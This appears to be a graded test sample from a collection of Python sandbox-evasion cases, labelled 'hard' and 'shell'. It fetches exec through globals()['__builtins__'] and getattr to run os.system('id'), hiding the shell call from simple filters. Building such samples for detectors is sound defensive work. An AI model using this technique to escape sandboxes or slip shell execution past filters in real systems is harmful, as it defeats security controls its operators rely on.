# evasion: globals()['__builtins__']
# grade: hard; does: shell
bi = globals()["__builtins__"]
getattr(bi, "exec")("import os; os.system('id')")
